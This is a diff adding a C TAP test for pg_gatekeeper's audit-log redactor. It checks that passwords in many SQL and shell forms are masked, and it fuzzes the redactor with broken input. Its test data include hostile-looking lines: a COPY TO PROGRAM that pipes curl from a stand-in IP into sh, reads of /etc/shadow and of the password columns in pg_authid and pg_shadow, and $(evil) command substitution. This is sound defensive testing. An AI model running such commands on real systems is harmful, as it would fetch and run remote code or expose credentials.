@@ -1,0 +1,347 @@
+/*-------------------------------------------------------------------------
+ *
+ * test_redact.c
+ *	  Secrets never reach a record, and what is no secret does.
+ *
+ * Stands alone; prints TAP.
+ *
+ * Copyright (c) 2026, the pg_gatekeeper authors
+ * SPDX-License-Identifier: PostgreSQL
+ *
+ *-------------------------------------------------------------------------
+ */
+#include <stdio.h>
+#include <stdlib.h>
+
+#include "audit/escape.c"
+#include "audit/redact_text.c"
+#include "audit/redact.c"
+
+/* The secret in all of the statements below. */
+#define SECRET "s3cr3t"
+
+typedef struct Case
+{
+	const char *input;
+	const char *expected;		/* NULL: it is enough that the secret is gone */
+} Case;
+
+/* SQL: the secret must be gone, the rest be as told. */
+static const Case hidden[] = {
+	/* roles, in every spelling */
+	{"ALTER ROLE bob PASSWORD 's3cr3t'", "ALTER ROLE bob PASSWORD '***'"},
+	{"ALTER ROLE bob PASSWORD 's3cr3t' VALID UNTIL '2027-01-01'",
+	"ALTER ROLE bob PASSWORD '***' VALID UNTIL '2027-01-01'"},
+	{"CREATE USER \"x\" WITH ENCRYPTED pAsSwOrD's3cr3t'",
+	"CREATE USER \"x\" WITH ENCRYPTED pAsSwOrD'***'"},
+	{"CREATE ROLE bob LOGIN PASSWORD E's3cr3t\\''", "CREATE ROLE bob LOGIN PASSWORD E'***'"},
+	{"CREATE ROLE bob PASSWORD E'a\\'s3cr3t' LOGIN", "CREATE ROLE bob PASSWORD E'***' LOGIN"},
+	{"CREATE ROLE bob PASSWORD 'a''s3cr3t' LOGIN", "CREATE ROLE bob PASSWORD '***' LOGIN"},
+	{"ALTER ROLE bob PASSWORD U&'s3cr3t\\0041'", "ALTER ROLE bob PASSWORD U&'***'"},
+	{"ALTER ROLE bob PASSWORD U&'s3cr3t!0041' UESCAPE '!'",
+	"ALTER ROLE bob PASSWORD U&'***' UESCAPE '!'"},
+	{"ALTER ROLE bob PASSWORD $$s3cr3t$$", "ALTER ROLE bob PASSWORD $$***$$"},
+	{"ALTER ROLE bob PASSWORD $x$it's $$s3cr3t$$ $x$ LOGIN",
+	"ALTER ROLE bob PASSWORD $x$***$x$ LOGIN"},
+	{"ALTER ROLE bob PASSWORD 'ab'\n  's3cr3t'", "ALTER ROLE bob PASSWORD '***'\n  '***'"},
+	{"ALTER ROLE bob PASSWORD 'ab' -- more\n  's3cr3t'",
+	"ALTER ROLE bob PASSWORD '***' -- more\n  '***'"},
+	{"ALTER ROLE bob PASSWORD/**/'s3cr3t'", "ALTER ROLE bob PASSWORD/**/'***'"},
+	{"ALTER ROLE bob PASSWORD /* it's /* nested ' */ */ -- isn't\n 's3cr3t'",
+	"ALTER ROLE bob PASSWORD /* it's /* nested ' */ */ -- isn't\n '***'"},
+	{"ALTER ROLE bob PASSWORD 's3cr3t", "ALTER ROLE bob PASSWORD '***"},
+	{"ALTER ROLE bob PASSWORD $$s3cr3t", "ALTER ROLE bob PASSWORD $$***"},
+	{"SELECT 1; ALTER ROLE a PASSWORD 's3cr3t'; ALTER ROLE b PASSWORD 's3cr3t'; SELECT 'x'",
+	"SELECT 1; ALTER ROLE a PASSWORD '***'; ALTER ROLE b PASSWORD '***'; SELECT 'x'"},
+	{"ALTER ROLE caf\xc3\xa9 PASSWORD 's3cr3t'", "ALTER ROLE caf\xc3\xa9 PASSWORD '***'"},
+	{"ALTER ROLE \xe9\xff PASSWORD 's3cr3t'", "ALTER ROLE \xe9\xff PASSWORD '***'"},
+	{"ALTER ROLE bob PASSWORD 'SCRAM-SHA-256$4096:s3cr3t'", "ALTER ROLE bob PASSWORD '***'"},
+
+	/* inside DO blocks and function bodies */
+	{"DO $$ BEGIN ALTER ROLE bob PASSWORD 's3cr3t'; END $$",
+	"DO $$ BEGIN ALTER ROLE bob PASSWORD '***'; END $$"},
+	{"DO LANGUAGE plpgsql $do$ BEGIN CREATE ROLE x PASSWORD $$s3cr3t$$; PERFORM 'shown'; END $do$",
+	"DO LANGUAGE plpgsql $do$ BEGIN CREATE ROLE x PASSWORD $$***$$; PERFORM 'shown'; END $do$"},
+	{"DO 'BEGIN ALTER ROLE bob PASSWORD ''s3cr3t''; END'",
+	"DO 'BEGIN ALTER ROLE bob PASSWORD ***'"},
+	{"CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $f$ ALTER ROLE bob PASSWORD 's3cr3t' $f$",
+	"CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $f$ ALTER ROLE bob PASSWORD '***' $f$"},
+	{"CREATE FUNCTION f() RETURNS void AS 'ALTER ROLE bob PASSWORD ''s3cr3t''' LANGUAGE sql",
+	"CREATE FUNCTION f() RETURNS void AS 'ALTER ROLE bob PASSWORD ***' LANGUAGE sql"},
+	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ''s3cr3t'''; END $$",
+	"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ***'; END $$"},
+	{"DO $$ BEGIN EXECUTE $x$ALTER ROLE bob PASSWORD 's3cr3t'$x$; END $$", NULL},
+	{"DO $$ BEGIN EXECUTE E'ALTER ROLE bob PASSWORD \\'s3cr3t\\''; END $$", NULL},
+	{"DO $$ BEGIN EXECUTE E'ALTER ROLE bob PASS\\x57ORD \\'s3cr3t\\''; END $$", NULL},
+	{"DO $$ BEGIN EXECUTE E'ALTER ROLE bob \\120ASSWORD \\'s3cr3t\\''; END $$", NULL},
+	{"DO $$ BEGIN EXECUTE E'ALTER ROLE bob PASS\\u0057ORD \\'s3cr3t\\''; END $$", NULL},
+	{"DO $$ BEGIN EXECUTE U&'ALTER ROLE bob PASS\\0057ORD ''s3cr3t'''; END $$", NULL},
+	{"DO $$ BEGIN EXECUTE U&'ALTER ROLE bob \\+000050ASSWORD ''s3cr3t'''; END $$", NULL},
+	{"DO $$ BEGIN EXECUTE U&'ALTER ROLE bob PASS!0057ORD ''s3cr3t''' UESCAPE '!'; END $$", NULL},
+	{"DO $a$ BEGIN EXECUTE $b$ DO $c$ BEGIN EXECUTE $d$ALTER ROLE x PASSWORD 's3cr3t'$d$; END $c$ $b$; END $a$",
+	NULL},
+
+	/* not where one would expect it */
+	{"DO $$ DECLARE p text := 's3cr3t'; BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ' || quote_literal(p); END $$",
+	"DO $$ DECLARE p text := '***'; BEGIN EXECUTE '***' || quote_literal(p); END $$"},
+	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ' || quote_literal('s3cr3t'); END $$", NULL},
+	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ''' || 's3cr3t' || ''''; END $$", NULL},
+	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ''ab' || 's3cr3t' || ''''; END $$", NULL},
+	{"DO $$ BEGIN EXECUTE concat('ALTER ROLE bob PASSWORD ''ab', 's3cr3t', ''''); END $$", NULL},
+	{"DO $$ BEGIN EXECUTE format('ALTER ROLE %I PASSWORD %L', 'bob', 's3cr3t'); END $$", NULL},
+	{"DO $$ BEGIN EXECUTE format('ALTER ROLE %I PASSWORD ''%s''', 'bob', $x$s3cr3t$x$); END $$", NULL},
+	{"DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ' || quote_literal($x$s3cr3t$x$); END $$", NULL},
+	{"INSERT INTO users (name, password) VALUES ('bob', 's3cr3t')",
+	"INSERT INTO users (name, password) VALUES ('***', '***')"},
+	{"INSERT INTO users (name, user_password) VALUES ('bob', E's3cr3t')", NULL},
+	{"SELECT set_password('bob', 's3cr3t')", NULL},
+	{"SELECT 's3cr3t' AS password", NULL},
+	{"SELECT * FROM users WHERE password IN ('a', 's3cr3t')", NULL},
+	{"UPDATE users SET password = 's3cr3t' WHERE name = 'bob'",
+	"UPDATE users SET password = '***' WHERE name = 'bob'"},
+	{"UPDATE users SET password = 's3' || 's3cr3t' WHERE name = 'bob'", NULL},
+	{"UPDATE pg_authid SET rolpassword = 's3cr3t' WHERE rolname = 'bob'",
+	"UPDATE pg_authid SET rolpassword = '***' WHERE rolname = 'bob'"},
+	{"COPY (SELECT 'SCRAM-SHA-256$4096:abc$s3cr3t:x', 'y') TO PROGRAM 'cat'",
+	"COPY (SELECT '***', 'y') TO PROGRAM 'cat'"},
+	{"SELECT set_config('my.password', 's3cr3t', false)", NULL},
+	{"SET my.password TO 's3cr3t'", "SET my.password TO '***'"},
+	{"SET my.password = 's3cr3t'", "SET my.password = '***'"},
+	{"SELECT f(password => 's3cr3t', x => 'y')", "SELECT f(password => '***', x => 'y')"},
+	{"SELECT f(password := 's3cr3t')", "SELECT f(password := '***')"},
+	{"SELECT '{\"user\": \"bob\", \"password\": \"s3cr3t\"}'::json",
+	"SELECT '{\"user\": \"bob\", \"password ***'::json"},
+	{"CREATE FOREIGN TABLE t (a int) SERVER s OPTIONS (api_key 's3cr3t', x 'y')",
+	"CREATE FOREIGN TABLE t (a int) SERVER s OPTIONS (api_key '***', x 'y')"},
+	{"-- password: s3cr3t\nSELECT 'x'", "-- password ***\nSELECT 'x'"},
+	{"/* the password is s3cr3t */ SELECT 'x'", "/* the password *** */ SELECT 'x'"},
+	{"DO $$ x = connect(\"host=h password=s3cr3t\") $$ LANGUAGE plpython3u", NULL},
+	{"DO $$ password = \"s3cr3t\" $$ LANGUAGE plpython3u", NULL},
+	{"DO $$ a = 'it\\'s'; password = 's3cr3t' $$ LANGUAGE plpython3u", NULL},
+
+	/* connections */
+	{"CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob', password 's3cr3t')",
+	"CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob', password '***')"},
+	{"ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET \"password\" 's3cr3t')",
+	"ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET \"password\" '***')"},
+	{"ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET U&\"p\\0061ssword\" 's3cr3t')", NULL},
+	{"CREATE SUBSCRIPTION s CONNECTION 'host=h user=u password=s3cr3t dbname=d' PUBLICATION p",
+	"CREATE SUBSCRIPTION s CONNECTION 'host=h user=u password ***' PUBLICATION p"},
+	{"CREATE SUBSCRIPTION s CONNECTION 'host=h password = ''a s3cr3t''' PUBLICATION p",
+	"CREATE SUBSCRIPTION s CONNECTION 'host=h password ***' PUBLICATION p"},
+	{"CREATE SUBSCRIPTION s CONNECTION 'postgres://u:s3cr3t@h/d' PUBLICATION p",
+	"CREATE SUBSCRIPTION s CONNECTION 'postgres://u:***@h/d' PUBLICATION p"},
+	{"CREATE SUBSCRIPTION s CONNECTION $$postgresql://u:s3cr3t@h/d$$ PUBLICATION p",
+	"CREATE SUBSCRIPTION s CONNECTION $$postgresql://u:***@h/d$$ PUBLICATION p"},
+	{"SELECT dblink_connect('c', 'host=h user=u password=s3cr3t')",
+	"SELECT dblink_connect('c', 'host=h user=u password ***')"},
+	{"SELECT dblink('password=''s3cr3t'' host=h', 'SELECT 1')", NULL},
+	{"SELECT dblink($$host=h password=s3cr3t$$, 'SELECT 1')", NULL},
+	{"SELECT dblink('postgres://u:a/b@s3cr3t@h', 'SELECT 1')", NULL},
+	{"SELECT dblink('postgres://h/d?user=u&password=s3cr3t', 'SELECT 1')", NULL},
+	{"COPY t TO PROGRAM 'curl https://bob:s3cr3t@host/x'",
+	"COPY t TO PROGRAM 'curl https://***@host/x'"},
+	{"COPY t TO PROGRAM 'curl https://s3cr3t@host/x'",
+	"COPY t TO PROGRAM 'curl https://***@host/x'"},
+	{"COPY t TO PROGRAM 'PGPASSWORD=s3cr3t psql -h x'",
+	"COPY t TO PROGRAM 'PGPASSWORD ***'"},
+};
+
+/* SQL that must come through as it is. */
+static const char *const shown[] = {
+	"SELECT 1",
+	"",
+	"COPY (SELECT 'a', E'b\\'c', $$d$$) TO PROGRAM 'curl http://203.0.113.9/x | sh'",
+	"ALTER ROLE bob PASSWORD NULL",
+	"ALTER ROLE bob PASSWORD $1",
+	"ALTER ROLE bob SET search_path = 'x'",
+	"SELECT rolname, rolpassword FROM pg_authid WHERE rolname = 'postgres'",
+	"SELECT usename, passwd FROM pg_shadow WHERE usename = 'postgres'",
+	"SET password_encryption = 'md5'",
+	"ALTER SUBSCRIPTION s SET (password_required = 'false')",
+	"ALTER SYSTEM SET gatekeeper.catalog_secrets = 'off'",
+	"SELECT crypt('text', gen_salt('bf'))",
+	"SELECT pgp_sym_encrypt('text', 'key')",
+	"SELECT a -- it's\n, b /* don't */ FROM t WHERE c = 'x'",
+	"SELECT $1, a$b, $x$ it's $x$ FROM t",
+	"SELECT \"it's\", U&\"d\\0061ta\" FROM t",
+	"DO $$ BEGIN RAISE NOTICE 'x %', 'y'; END $$",
+	"SELECT 'http://host:80/path', 'mailto:a@b', '://'",
+	"SELECT '\xff\xfe', 'caf\xc3\xa9'",
+	"COPY t TO '/tmp/x' -- $ $$ $a",
+};
+
+/* Plain text: only the value goes. */
+static const Case plain[] = {
+	{"PGPASSWORD=s3cr3t psql -c 'evil'", "PGPASSWORD=*** psql -c 'evil'"},
+	{"PGPASSWORD='a s3cr3t' evil", "PGPASSWORD='***' evil"},
+	{"PGPASSWORD=s3cr3t;evil", "PGPASSWORD=***;evil"},
+	{"PGPASSWORD=s3cr3t|evil", "PGPASSWORD=***|evil"},
+	{"PGPASSWORD=$(evil)", "PGPASSWORD=$(evil)"},
+	{"PGPASSWORD=\"$(evil)\"", "PGPASSWORD=\"$(evil)\""},
+	{"mysql --password=s3cr3t evil", "mysql --password=*** evil"},
+	{"mysql --password s3cr3t evil", "mysql --password *** evil"},
+	{"psql -c \"ALTER ROLE bob PASSWORD 's3cr3t'\"", "psql -c \"ALTER ROLE bob PASSWORD '***'\""},
+	{"curl -d '{\"password\": \"s3cr3t\", \"a\": 1}' evil", "curl -d '{\"password\": \"***\", \"a\": 1}' evil"},
+	{"curl https://bob:s3cr3t@host/evil", "curl https://***@host/evil"},
+	{"psql postgres://bob:s3cr3t@host/evil", "psql postgres://bob:***@host/evil"},
+	{"curl 'https://host/?token=s3cr3t&evil'", "curl 'https://host/?token=***&evil'"},
+	{"/etc/passwd", "/etc/passwd"},
+	{"cat /etc/passwd /etc/shadow", "cat /etc/passwd /etc/shadow"},
+	{"pg_authid.rolpassword", "pg_authid.rolpassword"},
+	{"echo password is", "echo password is"},
+	{"curl http://host/a@b ; evil://", "curl http://host/a@b ; evil://"},
+};
+
+static int	tests;
+
+static void
+ok(bool passed, const char *what, const char *input, const char *got)
+{
+	printf("%sok %d - %s: ", passed ? "" : "not ", ++tests, what);
+	for (; *input; input++)
+		putchar(*input == '\n' || *input == '#' ? ' ' : *input);
+	putchar('\n');
+	if (!passed)
+		printf("# got: %s\n", got);
+}
+
+/*
+ * Redact a copy that ends where its memory ends, into a buffer of just this
+ * size, so that a sanitizer or valgrind sees a byte too many.
+ */
+static char *
+redact(const char *input, size_t len, size_t size, bool is_sql, bool backslash)
+{
+	char	   *copy = malloc(len ? len : 1);
+	char	   *out = malloc(size);
+	GkText		text;
+
+	memcpy(copy, input, len);
+	gk_text_init(&text, out, size);
+	if (is_sql)
+		gk_redact_sql(&text, copy, len, backslash);
+	else
+		gk_redact_plain(&text, copy, len);
+	free(copy);
+	if (text.used >= size || out[text.used] != '\0')
+		abort();
+	return out;
+}
+
+/* Whatever of the output fits, the secret is not in it. */
+static bool
+never_leaks(const char *input)
+{
+	for (size_t size = 1; size < strlen(input) + 20; size++)
+	{
+		char	   *out = redact(input, strlen(input), size, true, false);
+		bool		leaks = strstr(out, SECRET) != NULL;
+
+		free(out);
+		if (leaks)
+			return false;
+	}
+	return true;
+}
+
+/* Broken SQL must not hang, crash or read what is not there. */
+static void
+torture(const char *input)
+{
+	static const char *const bits[] = {
+		"'", "\"", "$$", "$a$", "\\", "/*", "*/", "--", "E'", "U&'", "password", "://", "@", "\n", "("
+	};
+	char		buf[400];
+	size_t		len = strlen(input);
+
+	for (int round = 0; round < 200; round++)
+	{
+		const char *bit = bits[rand() % (sizeof(bits) / sizeof(bits[0]))];
+		size_t		at = len ? rand() % len : 0;
+		size_t		total;
+
+		if (len + strlen(bit) >= sizeof(buf))
+			return;
+		memcpy(buf, input, at);
+		memcpy(buf + at, bit, strlen(bit));
+		memcpy(buf + at + strlen(bit), input + at, len - at);
+		total = len + strlen(bit);
+		free(redact(buf, rand() % (total + 1), 1 + rand() % 400, rand() % 2, rand() % 2));
+	}
+}
+
+int
+main(void)
+{
+	char	   *out;
+	char	   *big;
+	size_t		n;
+
+	for (size_t i = 0; i < sizeof(hidden) / sizeof(hidden[0]); i++)
+	{
+		const Case *c = &hidden[i];
+
+		out = redact(c->input, strlen(c->input), 4000, true, false);
+		ok(strstr(out, SECRET) == NULL && strstr(out, "***") != NULL &&
+		   (c->expected == NULL || strcmp(out, c->expected) == 0),
+		   "hidden", c->input, out);
+		free(out);
+		if (!never_leaks(c->input))
+			ok(false, "hidden however short", c->input, "");
+		torture(c->input);
+	}
+	for (size_t i = 0; i < sizeof(shown) / sizeof(shown[0]); i++)
+	{
+		out = redact(shown[i], strlen(shown[i]), 4000, true, false);
+		ok(strcmp(out, shown[i]) == 0, "shown", shown[i], out);
+		free(out);
+		torture(shown[i]);
+	}
+	for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++)
+	{
+		out = redact(plain[i].input, strlen(plain[i].input), 4000, false, false);
+		ok(strcmp(out, plain[i].expected) == 0, "plain", plain[i].input, out);
+		free(out);
+		torture(plain[i].input);
+	}
+
+	/* standard_conforming_strings = off */
+	out = redact("ALTER ROLE bob PASSWORD 'a\\'s3cr3t'", 35, 4000, true, true);
+	ok(strcmp(out, "ALTER ROLE bob PASSWORD '***'") == 0, "hidden",
+	   "backslash escapes", out);
+	free(out);
+
+	/* long: the secret behind much else, and so much that nobody looks */
+	for (n = 100 * 1000; n <= 3000 * 1000; n += 2900 * 1000)
+	{
+		big = malloc(n + 100);
+		memset(big, ' ', n);
+		memcpy(big, "SELECT 's3cr3t'", 15);
+		strcpy(big + n, ", quote_literal(password)");
+		out = redact(big, strlen(big), 4000, true, false);
+		ok(strncmp(out, "SELECT '***'", 12) == 0, "hidden", "a long statement", out);
+		free(out);
+		free(big);
+	}
+
+	/* time must not grow with the square of the length */
+	n = 1000 * 1000;
+	big = malloc(n);
+	for (int kind = 0; kind < 6; kind++)
+	{
+		static const char *const units[] = {"://", "$a", "a$", "/*", "'$x$", "password "};
+
+		for (size_t i = 0; i < n; i++)
+			big[i] = units[kind][i % strlen(units[kind])];
+		out = redact(big, n, 4000, true, false);
+		free(out);
+		out = redact(big, n, 4000, false, false);
+		ok(true, "in time", units[kind], "");
+		free(out);
+	}
+	free(big);
+
+	printf("1..%d\n", tests);
+	return 0;
+}
